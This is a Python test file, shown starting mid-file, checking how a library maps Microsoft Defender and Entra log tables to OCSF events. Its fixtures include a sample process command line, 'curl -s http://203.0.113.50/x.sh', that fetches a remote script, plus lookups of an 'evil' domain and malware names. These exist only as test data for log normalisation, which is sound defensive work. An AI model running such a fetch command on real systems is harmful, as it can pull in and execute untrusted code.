     ("resolved", 3, "Close"), ("Resolved", 3, "Close")],
)
def test_the_activity_of_an_alert_follows_its_status(status: str | None, activity_id: int, activity_name: str) -> None:
    # (modified long after it was created: the times do not decide)
    times = {"createdDateTime": "2026-07-14T06:02:44Z", "lastUpdateDateTime": "2026-07-15T06:02:44Z"}
    event = _graph_alert(status=status, **times)
    assert (event["activity_id"], event["activity_name"]) == (activity_id, activity_name)
    assert event["type_uid"] == 200400 + activity_id
    assert event["type_name"] == f"Detection Finding: {activity_name}"
    assert event["time"] == 1784008964000  # the creation time, whatever the activity


@pytest.mark.parametrize(
    ("status", "activity_id"),
    [("active", 1), ("Active", 1), ("unknown", 1), (None, 1), ("inProgress", 2), ("awaitingAction", 2),
     ("unknownFutureValue", 2), ("resolved", 3), ("redirected", 3)],
)
def test_the_activity_of_an_incident_follows_its_status(status: str | None, activity_id: int) -> None:
    event = _graph_incident(status=status)
    name = {1: "Create", 2: "Update", 3: "Close"}[activity_id]
    assert (event["activity_id"], event["activity_name"], event["type_uid"]) == (activity_id, name, 200500 + activity_id)


def test_incident_findings_are_its_alerts() -> None:
    (rec,) = _api_records(Path(m365parse.__file__).resolve().parent / "samples" / "api" / "XdrIncidentPage.json")
    event = m365parse.normalize(rec, "ocsf")
    (info,) = event["finding_info_list"]
    assert info["uid"] == "da637590111237281513_-1110134932"
    assert info["created_time_dt"] == "2026-06-26T22:05:23.7281513Z" and info["created_time"] == 1782511523728
    assert info["attacks"] == [{"technique": {"uid": "T1486"}}]
    assert event["metadata"]["uid"] == "924565"


def test_hunting_rows_of_no_known_table_are_base_events() -> None:
    rows = [r for r in _api_records(*API_SAMPLES) if r.table == "HuntingRow"]
    assert rows
    for rec in rows:
        event = m365parse.normalize(rec, "ocsf")
        assert (event["class_uid"], event["activity_id"], event["type_uid"]) == (0, 0, 0)
        assert event["unmapped"]["properties"] == rec.to_dict()["properties"]


def test_api_kinds_have_no_ocsf_variants() -> None:
    from m365parse.mappings.api_rules import normalizer_for

    assert normalizer_for("ocsf", "GraphAlert", True) is not None
    assert normalizer_for("ocsf+x", "GraphAlert", True) is None
    assert normalizer_for("ocsf", "NoSuchKind", True) is None


# --- tables of the cloud, Entra ID and behavior families ---------------------------------------


def test_entra_sign_ins_are_logons_with_their_outcome_in_status() -> None:
    user = {"AccountUpn": "avery.lin@contoso.com", "AccountObjectId": "71f17c54-00cf-4043-9ccb-86919d4613cf"}
    for table in ("EntraIdSignInEvents", "AADSignInEventsBeta"):
        failed = _event(table, ErrorCode=50126, IPAddress="203.0.113.14", **user)
        assert (failed["class_uid"], failed["activity_id"], failed["type_uid"]) == (3002, 1, 300201)
        assert (failed["status_id"], failed["status"], failed["status_code"]) == (2, "Failure", "50126")
        assert failed["user"] == {
            "name": "avery.lin@contoso.com",
            "uid": "71f17c54-00cf-4043-9ccb-86919d4613cf",
            "email_addr": "avery.lin@contoso.com",
        }
        assert failed["src_endpoint"]["ip"] == "203.0.113.14"
        ok = _event(table, ErrorCode=0, AuthenticationRequirement="multiFactorAuthentication", **user)
        assert (ok["status_id"], ok["status"], ok["is_mfa"]) == (1, "Success", True)
        assert _event(table, **user)["status_id"] == 0  # no error code: Unknown
        assert _event(table, ErrorCode=0)["class_uid"] == 0  # no user: a Base Event


def test_service_principal_sign_ins_have_a_service_user() -> None:
    for table in ("EntraIdSpnSignInEvents", "AADSpnSignInEventsBeta"):
        event = _event(table, ServicePrincipalName="ci-deploy", ServicePrincipalId="f4ad", ErrorCode=7000215)
        assert event["class_uid"] == 3002
        assert event["user"] == {"name": "ci-deploy", "uid": "f4ad", "type_id": 4, "type": "Service"}
        assert event["status_id"] == 2


def test_graph_api_calls_take_their_activity_from_the_method() -> None:
    for method, activity in (("GET", 2), ("POST", 1), ("PATCH", 3), ("PUT", 3), ("DELETE", 4), ("OPTIONS", 99)):
        event = _event("GraphAPIAuditEvents", RequestMethod=method, AccountObjectId="34c9", IpAddress="203.0.113.14")
        assert (event["class_uid"], event["activity_id"], event["type_uid"]) == (6003, activity, 600300 + activity)
        assert event["api"]["operation"] == method
        assert event["actor"]["user"] == {"uid": "34c9", "type_id": 1, "type": "User"}
    app = _event("GraphAPIAuditEvents", RequestMethod="GET", ServicePrincipalId="f4ad", IpAddress="203.0.113.14")
    assert app["actor"]["user"] == {"uid": "f4ad", "type_id": 4, "type": "Service"}
    coded = _event(
        "GraphAPIAuditEvents", RequestMethod="GET", AccountObjectId="34c9", IpAddress="::1", ResponseStatusCode="404"
    )
    assert coded["http_response"] == {"code": 404}
    odd = _event(
        "GraphAPIAuditEvents", RequestMethod="GET", AccountObjectId="34c9", IpAddress="::1", ResponseStatusCode="x"
    )
    assert "http_response" not in odd and odd["unmapped"]["ResponseStatusCode"] == "x"


def test_cloud_processes_have_their_parent_as_actor() -> None:
    event = _event(
        "CloudProcessEvents",
        ActionType="ProcessCreated",
        ProcessId=48211,
        ProcessName="curl",
        ProcessCommandLine="curl -s http://203.0.113.50/x.sh",
        ParentProcessName="sh",
        ParentProcessId="48190",
        AccountName="www-data",
        HostName="aks-node-1",
        ContainerId="c0ffee",
        ImageDigest="sha256:3b1f",
        ContainerImageName="contoso.azurecr.io/web/frontend:1.8.2",
    )
    assert (event["class_uid"], event["activity_id"]) == (1007, 1)
    assert event["actor"]["process"] == {"pid": 48190, "name": "sh"}
    assert event["process"]["parent_process"] == {"pid": 48190, "name": "sh"}
    assert event["process"]["user"] == {"name": "www-data"}
    assert event["process"]["container"] == {
        "uid": "c0ffee",
        "image": {"uid": "sha256:3b1f", "name": "contoso.azurecr.io/web/frontend:1.8.2"},
    }
    assert event["device"]["hostname"] == "aks-node-1"


def test_cloud_dns_and_audit_events() -> None:
    dns = _event("CloudDnsEvents", DnsQuery="evil.example.net", DnsQueryTypeName="A", DnsResponseCodeName="nxdomain")
    assert (dns["class_uid"], dns["query"], dns["rcode_id"], dns["rcode"]) == (
        4003,
        {"hostname": "evil.example.net", "type": "A"},
        3,
        "NXDomain",
    )
    audit = _event(
        "CloudAuditEvents",
        Account="avery.lin@contoso.com",
        OperationName="listKeys",
        IPAddress="203.0.113.14,198.51.100.7",
    )
    assert (audit["class_uid"], audit["api"]["operation"], audit["src_endpoint"]["ip"]) == (
        6003,
        "listKeys",
        "203.0.113.14",
    )
    assert audit["unmapped"]["IPAddress"] == "203.0.113.14,198.51.100.7"  # the whole list is kept


def test_behaviors_are_detection_findings_not_alerts() -> None:
    event = _event(
        "BehaviorInfo",
        BehaviorId="ca1b",
        Title="Unusual volume of file deletion",
        Categories='["Impact"]',
        AttackTechniques='["Data Destruction (T1485)"]',
        AccountUpn="jordan.okafor@contoso.com",
        StartTime="2026-07-18T09:40:12.5Z",
    )
    assert (event["class_uid"], event["is_alert"], event["finding_info"]["uid"]) == (2004, False, "ca1b")
    assert event["finding_info"]["first_seen_time_dt"] == "2026-07-18T09:40:12.5Z"
    assert {"technique": {"uid": "T1485", "name": "Data Destruction"}} in event["attacks"]
    assert event["evidences"] == [
        {"user": {"name": "jordan.okafor@contoso.com", "email_addr": "jordan.okafor@contoso.com"}}
    ]


def test_behavior_entities_are_the_evidence_of_their_behavior() -> None:
    event = _event(
        "BehaviorEntities",
        BehaviorId="cc3d",
        Categories='["Discovery"]',
        EntityType="Machine",
        DeviceId="7f3e",
        DeviceName="ws-fin-0142",
        LocalIP="10.20.4.17",
        RemoteIP="203.0.113.50",
        SHA1="da39a3ee5e6b4b0d3255bfef95601890afd80709",
        FileName="tasklist.exe",
    )
    assert (event["class_uid"], event["is_alert"], event["finding_info"]["uid"]) == (2004, False, "cc3d")
    assert event["attacks"] == [{"tactic": {"uid": "TA0007", "name": "Discovery"}}]
    (evidence,) = event["evidences"]
    assert evidence["device"] == {"hostname": "ws-fin-0142", "uid": "7f3e", "type_id": 0, "type": "Unknown"}
    assert (evidence["src_endpoint"], evidence["dst_endpoint"]) == ({"ip": "10.20.4.17"}, {"ip": "203.0.113.50"})
    assert evidence["file"]["hashes"] == [
        {"algorithm_id": 2, "algorithm": "SHA-1", "value": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}
    ]


def test_data_security_behaviors_are_data_security_findings_not_alerts() -> None:
    event = _event(
        "DataSecurityBehaviors",
        BehaviorId="b-7",
        ActionType="ExfiltrationToPersonalEmail",
        Description="Sensitive files mailed to a personal address",
        AttackTechniques='["Exfiltration Over Web Service (T1567)"]',
        StartTime="2026-06-12T07:00:00.0000001Z",
        EndTime="2026-06-12T07:10:00Z",
        ActivityCount=12,
        AccountUpn="avery.lin@contoso.com",
        AccountEmail="avery.lin@contoso.com",
        Policies="Data theft by departing users",
    )
    assert (event["class_uid"], event["type_uid"], event["is_alert"], event["count"]) == (2006, 200601, False, 12)
    info = event["finding_info"]
    assert (info["uid"], info["title"]) == ("b-7", "ExfiltrationToPersonalEmail")
    assert info["desc"] == "Sensitive files mailed to a personal address"
    assert info["first_seen_time_dt"] == "2026-06-12T07:00:00.0000001Z"
    assert event["attacks"][0]["technique"]["uid"] == "T1567"
    assert event["actor"]["user"] == {"name": "avery.lin@contoso.com", "email_addr": "avery.lin@contoso.com"}
    assert event["unmapped"]["Policies"] == "Data theft by departing users"
    assert _event("DataSecurityBehaviors", ActionType="X")["class_uid"] == 0  # no behavior id: a Base Event


def test_exposure_graph_nodes_and_oauth_apps_are_cloud_resource_inventory() -> None:
    node = _event(
        "ExposureGraphNodes",
        NodeId="n-1",
        NodeName="fin-ws-0142",
        NodeLabel="device",
        Categories=["device", "compute"],
        NodeProperties={"rawData": {"osPlatform": "Windows11"}},
        EntityIds=[{"type": "DeviceInventoryId", "id": "3709"}],
    )
    assert (node["class_uid"], node["activity_id"], node["type_uid"]) == (5023, 2, 502302)
    assert node["resources"] == [
        {"uid": "n-1", "name": "fin-ws-0142", "type": "device", "data": {"rawData": {"osPlatform": "Windows11"}}}
    ]
    assert node["unmapped"]["Categories"] == ["device", "compute"]
    assert node["unmapped"]["EntityIds"] == [{"type": "DeviceInventoryId", "id": "3709"}]
    assert _event("ExposureGraphNodes", NodeName="x")["class_uid"] == 0  # no node id: a Base Event

    app = _event(
        "OAuthAppInfo",
        OAuthAppId="a-1",
        ServicePrincipalId="sp-1",
        AppName="Contoso CRM",
        AddedOnTime="2026-06-12T07:10:20.9159615Z",
        PrivilegeLevel="High",
        ConsentedUsersCount=3,
    )
    (resource,) = app["resources"]
    assert (resource["uid"], resource["uid_alt"], resource["name"]) == ("a-1", "sp-1", "Contoso CRM")
    assert (resource["type"], resource["created_time_dt"]) == ("OAuth Application", "2026-06-12T07:10:20.9159615Z")
    assert (app["unmapped"]["PrivilegeLevel"], app["unmapped"]["ConsentedUsersCount"]) == ("High", 3)
    assert _event("OAuthAppInfo", AppName="x")["class_uid"] == 0  # no id: a Base Event


def test_exposure_graph_edges_are_their_source_with_a_relationship_graph() -> None:
    edge = _event(
        "ExposureGraphEdges",
        EdgeId="e-1",
        EdgeLabel="has permissions to",
        SourceNodeId="n-user",
        SourceNodeName="jdoe",
        SourceNodeLabel="user",
        TargetNodeId="n-vm",
        TargetNodeName="vm-01",
        TargetNodeLabel="microsoft.compute/virtualmachines",
        EdgeProperties={"rawData": {"role": "Owner"}},
        TargetNodeCategories=["compute"],
    )
    (resource,) = edge["resources"]
    assert (edge["class_uid"], resource["uid"], resource["name"], resource["type"]) == (5023, "n-user", "jdoe", "user")
    graph = resource["resource_relationship"]
    assert graph["nodes"] == [
        {"uid": "n-user", "name": "jdoe", "type": "user"},
        {"uid": "n-vm", "name": "vm-01", "type": "microsoft.compute/virtualmachines"},
    ]
    assert graph["edges"] == [
        {
            "uid": "e-1",
            "relation": "has permissions to",
            "source": "n-user",
            "target": "n-vm",
            "is_directed": True,
            "data": {"rawData": {"role": "Owner"}},
        }
    ]
    assert edge["unmapped"]["TargetNodeCategories"] == ["compute"]
    assert _event("ExposureGraphEdges", EdgeId="e-1", SourceNodeId="n-user")["class_uid"] == 0  # no target


def test_ai_agents_are_cloud_resource_inventory() -> None:
    agent = _event(
        "AgentsInfo",
        AgentId="ag-1",
        EntraAgentId="e-1",
        AgentName="HR helper",
        Version="1.2",
        CreatedDateTime="2026-06-12T07:10:20.9811184Z",
        Permissions=["Mail.Read"],
    )
    assert agent["class_uid"] == 5023
    assert agent["resources"] == [
        {
            "uid": "ag-1",
            "type": "AI Agent",
            "uid_alt": "e-1",
            "name": "HR helper",
            "version": "1.2",
            "created_time": 1781248220981,
            "created_time_dt": "2026-06-12T07:10:20.9811184Z",
        }
    ]
    assert agent["unmapped"]["Permissions"] == ["Mail.Read"]
    copilot = _event("AIAgentsInfo", AIAgentId="3d31da29-eb80-49e9-ada9-b56f4673fa36", AIAgentName="Helpdesk")
    assert copilot["resources"] == [
        {"uid": "3d31da29-eb80-49e9-ada9-b56f4673fa36", "type": "AI Agent", "name": "Helpdesk"}
    ]
    assert _event("AIAgentsInfo", AIAgentName="Helpdesk")["class_uid"] == 0  # no id: a Base Event


def test_identity_accounts_are_user_inventory() -> None:
    event = _event(
        "IdentityAccountInfo",
        AccountId="3d66",
        AccountUpn="avery.lin@contoso.com",
        DisplayName="Avery Lin",
        Sid="S-1-5-21-1-2-3-1104",
        Department="Finance",
        City="Frankfurt am Main",
    )
    assert (event["class_uid"], event["activity_id"]) == (5003, 2)
    assert event["user"]["uid"] == "S-1-5-21-1-2-3-1104"
    assert event["user"]["uid_alt"] == "3d66"
    assert event["user"]["ldap_person"] == {"department": "Finance", "location": {"city": "Frankfurt am Main"}}


def test_vulnerability_management_tables() -> None:
    device = {"DeviceId": "3709", "DeviceName": "ws-fin-0142", "OSPlatform": "Windows11", "OSVersion": "10.0.22631"}
    software = {"SoftwareVendor": "tukaani", "SoftwareName": "xz_utils", "SoftwareVersion": "5.6.0"}
    inventory = _event("DeviceTvmSoftwareInventory", **device, **software, ProductCodeCpe="cpe:2.3:a:tukaani:xz:5.6.0")
    assert (inventory["class_uid"], inventory["activity_id"]) == (5020, 2)
    assert inventory["package"] == {
        "name": "xz_utils",
        "version": "5.6.0",
        "vendor_name": "tukaani",
        "cpe_name": "cpe:2.3:a:tukaani:xz:5.6.0",
    }
    assert inventory["device"]["os"] == {"name": "Windows11", "type_id": 100, "version": "10.0.22631"}
    assert "package" not in _event("DeviceTvmSoftwareInventory", **device, SoftwareName="xz_utils")  # no version

    finding = _event(
        "DeviceTvmSoftwareVulnerabilities", **device, **software, CveId="CVE-2024-3094", VulnerabilitySeverityLevel="Critical"
    )
    assert (finding["class_uid"], finding["severity_id"], finding["severity"]) == (2002, 5, "Critical")
    assert finding["finding_info"] == {"uid": "3709/CVE-2024-3094/tukaani/xz_utils/5.6.0", "title": "CVE-2024-3094"}
    (vulnerability,) = finding["vulnerabilities"]
    assert vulnerability["cve"] == {"uid": "CVE-2024-3094"}
    assert vulnerability["affected_packages"] == [{"name": "xz_utils", "version": "5.6.0", "vendor_name": "tukaani"}]
    assert _event("DeviceTvmSoftwareVulnerabilities", **device)["class_uid"] == 0  # no CVE: a Base Event

    for table in ("DeviceTvmSecureConfigurationAssessment", "DeviceBaselineComplianceAssessment"):
        for compliant, status_id, status in ((True, 1, "Pass"), (False, 3, "Fail"), (None, 0, "Unknown")):
            event = _event(table, **device, ConfigurationId="scid-2010", IsCompliant=compliant)
            assert event["class_uid"] == 2003
            assert event["finding_info"]["uid"] == "3709/scid-2010"
            assert (event["compliance"]["status_id"], event["compliance"]["status"]) == (status_id, status)


def test_gathered_device_information_is_device_inventory() -> None:
    event = _event(
        "DeviceTvmInfoGathering",
        DeviceId="3709",
        DeviceName="ws-fin-0142",
        OSPlatform="Windows11",
        Timestamp="2026-06-12T07:10:20.7432256Z",
        LastSeenTime="2026-06-12T07:10:20.8565137Z",
        AdditionalFields={"AsrConfigurationStates": {"BlockOfficeChildProcess": "Block"}},
    )
    assert (event["class_uid"], event["activity_id"], event["type_uid"]) == (5001, 2, 500102)
    assert event["device"]["last_seen_time"] == 1781248220856
    assert event["device"]["last_seen_time_dt"] == "2026-06-12T07:10:20.8565137Z"
    assert event["unmapped"]["AdditionalFields"] == {"AsrConfigurationStates": {"BlockOfficeChildProcess": "Block"}}
    assert _event("DeviceTvmInfoGathering", OSPlatform="Linux")["class_uid"] == 0  # no device: a Base Event


def test_software_evidence_browser_extensions_malicious_files_and_campaigns() -> None:
    evidence = _event(
        "DeviceTvmSoftwareEvidenceBeta", DeviceId="5ff9", SoftwareName="openssl", SoftwareVersion="3.0.13"
    )
    assert (evidence["class_uid"], evidence["package"]) == (5020, {"name": "openssl", "version": "3.0.13"})
    assert "device" not in _event("DeviceTvmSoftwareEvidenceBeta", SoftwareName="openssl")  # no device: none
    extension = _event(
        "DeviceTvmBrowserExtensions", DeviceId="01b2", ExtensionId="abc", ExtensionName="uBlock", ExtensionVersion="1.5"
    )
    assert extension["package"] == {
        "name": "uBlock",
        "version": "1.5",
        "uid": "abc",
        "type_id": 99,
        "type": "Browser Extension",
    }
    malicious = _event(
        "FileMaliciousContentInfo", DocumentId="c81e", ThreatNames="Trojan:Win32/Emotet", FileName="invoice.pdf"
    )
    assert (malicious["class_uid"], malicious["is_alert"], malicious["finding_info"]["uid"]) == (2004, False, "c81e")
    assert malicious["evidences"][0]["file"]["name"] == "invoice.pdf"
    campaign = _event(
        "CampaignInfo", CampaignId="9344", CampaignName="Qakbot", NetworkMessageId="f55e", RecipientEmailAddress="a@b.com"
    )
    assert campaign["finding_info"] == {"uid": "9344", "title": "Qakbot"}
    assert campaign["evidences"] == [{"email": {"uid": "f55e", "smtp_to": ["a@b.com"]}}]


def test_attack_disruption_takes_the_class_of_what_it_blocked() -> None:
    table = "DisruptionAndResponseEvents"
    user = {"SourceUserName": "jdoe", "SourceUserDomainName": "CORP", "SourceUserSid": "S-1-5-21-1-2-3-1013"}
    sides = {"SourceIPAddress": "10.20.4.17", "SourcePort": 51544, "IPAddress": "10.20.1.5", "Port": "445"}
    logon = _event(table, ActionType="ContainedUserLogonBlocked", **user, **sides, AuthenticationProtocol="NTLM")
    # a blocked logon is a Logon that failed, denied by the control, never a Logoff
    assert (logon["class_uid"], logon["activity_id"], logon["status_id"]) == (3002, 1, 2)
    assert (logon["action_id"], logon["disposition_id"], logon["auth_protocol_id"]) == (2, 2, 1)
    assert logon["user"] == {"name": "jdoe", "domain": "CORP", "uid": "S-1-5-21-1-2-3-1013"}
    assert (logon["src_endpoint"]["ip"], logon["dst_endpoint"]["port"]) == ("10.20.4.17", 445)
    assert "security_control" in logon["metadata"]["profiles"]
    assert _event(table, ActionType="ContainedUserLogonBlocked")["class_uid"] == 0  # no user: a Base Event

    smb = _event(table, ActionType="ContainedUserSmbFileOpenBlocked", **user, FileName="a.xlsx", ShareName="Finance")
    assert (smb["type_uid"], smb["share"], smb["file"]["name"]) == (400602, "Finance", "a.xlsx")
    assert smb["actor"]["user"]["name"] == "jdoe"
    rpc = _event(table, ActionType="ContainedUserRpcAccessBlocked", **sides)
    assert (rpc["type_uid"], rpc["disposition_id"]) == (400105, 2)
    cut = _event(table, ActionType="ContainedUserSmbSessionStopped", **sides)
    assert (cut["type_uid"], cut["disposition_id"], cut["disposition"]) == (400103, 24, "Access Revoked")
    policy = _event(table, ActionType="SafeBootGuardPolicyApplied", PolicyId="p1", PolicyName="guard", IsPolicyOn=True)
    assert (policy["class_uid"], policy["policy"]) == (0, {"uid": "p1", "name": "guard"})
    assert "action_id" not in policy
    assert policy["unmapped"]["IsPolicyOn"] is True
    blocked = _event(table, ActionType="SafeBootBlocked")
    assert (blocked["class_uid"], blocked["action_id"], blocked["disposition_id"]) == (0, 2, 2)


def test_every_table_without_a_class_says_why() -> None:
    from m365parse.mappings.ocsf._base_tables import BASE_EVENT_TABLES

    without = {t for t in DOCUMENTED_TYPES if t not in MAPPINGS or not MAPPINGS[t].plans}
    assert without == set(BASE_EVENT_TABLES)
    assert all(why and "\n" not in why and "|" not in why for why in BASE_EVENT_TABLES.values())
    doc = DOC.read_text("utf-8")
    for table, why in BASE_EVENT_TABLES.items():
        assert f"| {table} | {why} |" in doc
